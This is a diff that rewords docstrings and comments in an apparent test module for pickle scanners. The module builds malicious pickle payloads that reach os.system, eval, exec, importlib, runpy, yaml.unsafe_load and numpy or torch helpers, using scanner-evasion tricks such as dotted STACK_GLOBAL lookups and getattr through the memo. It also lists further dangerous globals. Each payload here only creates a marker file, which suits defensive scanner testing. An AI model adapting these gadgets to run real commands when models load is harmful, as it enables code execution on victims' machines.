@@ -1,4 +1,4 @@
-"""What a pickle may call to do harm; here, to create a marker file.
+"""Gadgets: callables that harm when a pickle calls them; here they create a marker file.
 
 The names are those that scanners of pickles list, those that were used to get past them, and more of their kinds.
 """
@@ -12,7 +12,7 @@ from hostile.torchfiles import Raw, call, named
 
 
 def canaries(path: Path) -> dict[str, Raw]:
-    """Opcodes by the name of the global that they ask for first; each creates `path` where Python reads it."""
+    """Opcodes by the name of the first global; each creates `path` when Python loads it."""
     file, shell, code = str(path), f"touch {path}", f"open({str(path)!r}, 'w').close()"
     argv = ["/usr/bin/touch", file]
     compiled = call("builtins.compile", code, "x", "exec")
@@ -41,7 +41,7 @@ def canaries(path: Path) -> dict[str, Raw]:
         ),
         "multiprocessing.util.spawnv_passfds": call("multiprocessing.util.spawnv_passfds", b"/usr/bin/touch", argv, []),
         "threading.Thread": call(_attribute(call("threading.Thread", None, named("os.system"), None, [shell]), "run")),
-        # What Python itself is made of.
+        # Builtins and functions of the interpreter.
         "builtins.eval": call("builtins.eval", code),
         "__builtin__.eval": call("__builtin__.eval", code),
         "builtins.exec": call("builtins.exec", code),
@@ -52,7 +52,7 @@ def canaries(path: Path) -> dict[str, Raw]:
         "builtins.filter": call(_attribute(call("builtins.filter", named("os.mkdir"), [file]), "__next__")),
         "types.FunctionType": call(call("types.FunctionType", compiled, {})),
         "atexit.register": _then(call("atexit.register", named("os.system"), shell), call("atexit._run_exitfuncs")),
-        # Imports, and running what was found.
+        # Importing and running modules.
         "importlib.import_module": call(_attribute(call("importlib.import_module", "os"), "system"), shell),
         "importlib.__import__": call(_attribute(call("importlib.__import__", "os"), "system"), shell),
         "runpy._run_code": call("runpy._run_code", compiled, {}),
@@ -113,7 +113,7 @@ def canaries(path: Path) -> dict[str, Raw]:
         "pickle.loads": call("pickle.loads", inner),
         "_pickle.loads": call("_pickle.loads", inner),
         "yaml.unsafe_load": call("yaml.unsafe_load", f"!!python/object/apply:os.mkdir [{file}]"),
-        # numpy's helpers, and torch's.
+        # Helpers of numpy and torch.
         "numpy.memmap": call("numpy.memmap", file, "uint8", "w+", 0, (1,)),
         "numpy.testing._private.utils.runstring": call("numpy.testing._private.utils.runstring", code, {}),
         "numpy.f2py.crackfortran.getlincoef": call("numpy.f2py.crackfortran.getlincoef", code, {"x": 1}),
@@ -141,7 +141,7 @@ def canaries(path: Path) -> dict[str, Raw]:
     }
 
 
-# More names: of other systems, versions and packages, in need of a network or a terminal, or a first step to harm.
+# More names, not executed here: other systems, versions and packages; those that need a network or a terminal.
 OTHERS = """
     builtins.compile marshal.loads nt.system _posixsubprocess.fork_exec
     __builtin__.execfile __builtin__.file builtins.globals builtins.type
@@ -164,7 +164,7 @@ OTHERS = """
 
 
 class _Touch:
-    """Pickles as a call that creates a folder."""
+    """An object whose pickle is a call that creates a folder."""
 
     def __init__(self, file: str) -> None:
         self.file = file
@@ -176,14 +176,14 @@ class _Touch:
 
 
 def _dotted(module: str, name: str) -> Raw:
-    """A global whose name has dots, which only STACK_GLOBAL may look up."""
+    """A global with a dotted name, which only STACK_GLOBAL can look up."""
     texts = b"".join(b"\x8c" + bytes([len(text)]) + text.encode() for text in (module, name))
     return Raw(b"\x80\x04" + texts + b"\x93")
 
 
 def _attribute(of: Raw, name: str) -> Raw:
-    """`getattr`, of a value that is made first, so that its global is the first."""
-    # The value, put away; getattr; the value again.
+    """`getattr` of a value that is built first, so that its global is the first one."""
+    # The value into the memo; getattr; the value from the memo.
     return Raw(of.opcodes + b"r\xff\xff\0\0" + b"0" + b"cbuiltins\ngetattr\n(j\xff\xff\0\0" + _text(name) + b"tR")
 
 
